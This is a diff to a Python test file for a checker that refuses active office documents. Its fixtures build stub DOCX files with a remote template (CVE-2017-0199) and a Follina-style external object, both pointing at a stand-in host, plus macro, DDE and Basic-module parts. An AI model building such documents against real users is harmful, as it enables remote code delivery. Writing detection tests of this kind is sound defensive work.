@@ -10,6 +10,7 @@ Such a file is now not written and not opened; the officer is told why and may s
 from __future__ import annotations
 
 import io
+import zipfile
 import zlib
 from collections.abc import Iterator
 from pathlib import Path
@@ -81,10 +82,67 @@ def test_a_document_or_picture_whose_content_lies_is_not_viewable(
     assert not_viewable(name, content) is NotViewable.DISGUISED
 
 
+def a_document(*parts: tuple[str, bytes]) -> bytes:
+    """A minimal Word document (a ZIP of XML) with ``parts`` added."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("word/document.xml", "<w:document><w:body>Contract</w:body></w:document>")
+        for name, data in parts:
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def relationship(kind: str, target: str) -> tuple[str, bytes]:
+    """``word/_rels/settings.xml.rels`` with one relationship to ``target``, outside the file."""
+    return (
+        "word/_rels/settings.xml.rels",
+        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
+        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+        + f'officeDocument/2006/relationships/{kind}" Target="{target}" '.encode()
+        + b'TargetMode="External"/></Relationships>',
+    )
+
+
+def a_workbook() -> bytes:
+    from openpyxl import Workbook
+
+    book = Workbook()
+    sheet = book.active
+    assert sheet is not None
+    sheet["A1"] = "Wages"
+    sheet["A2"].hyperlink = "https://www.enbek.kz"
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
+
 @pytest.mark.parametrize(
     ("name", "content"),
     [
-        ("contract.docx", b"PK\x03\x04 word/document.xml"),
+        # A remote template (CVE-2017-0199) and an object fetched as it opens ("Follina").
+        ("contract.docx", a_document(relationship("attachedTemplate", "http://x/t.dotm"))),
+        ("contract.docx", a_document(relationship("oleObject", "http://x/a.html!"))),
+        ("contract.docx", a_document(("word/vbaProject.bin", b"macros"))),
+        (
+            "contract.docx",
+            a_document(("word/footer1.xml", b"<w:instrText>DDEAUTO c:\\x</w:instrText>")),
+        ),
+        ("payslip.xlsx", a_document(("xl/externalLinks/externalLink1.xml", b"<ddeLink/>"))),
+        ("letter.odt", a_document(("Basic/Standard/Module1.xml", b"<script:module/>"))),
+        ("contract.docx", b"PK\x03\x04 a ZIP that cannot be read"),
+    ],
+)
+def test_a_document_with_macros_or_links_outside_is_not_viewable(name: str, content: bytes) -> None:
+    assert not_viewable(name, content) is NotViewable.ACTIVE_DOCUMENT
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("contract.docx", a_document()),
+        ("contract.docx", a_document(relationship("hyperlink", "https://www.enbek.kz"))),
+        ("payslip.xlsx", a_workbook()),
         ("contract.PDF", a_pdf()),
         ("contract.pdf", b"\r\n%PDF-1.4 header after a line, as readers accept"),
         ("passport.jpg", b"\xff\xd8\xff\xe0 a photo"),
@@ -160,6 +218,11 @@ def _chosen(make_window: MakeWindow, ws: Workspace, name: str, content: bytes) -
             "contract.pdf",
             a_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
             "this PDF holds a script or an action",
+        ),
+        (
+            "contract.docx",
+            a_document(relationship("attachedTemplate", "http://x/t.dotm")),
+            "this document holds macros, or fetches or starts something from outside",
         ),
     ],
 )
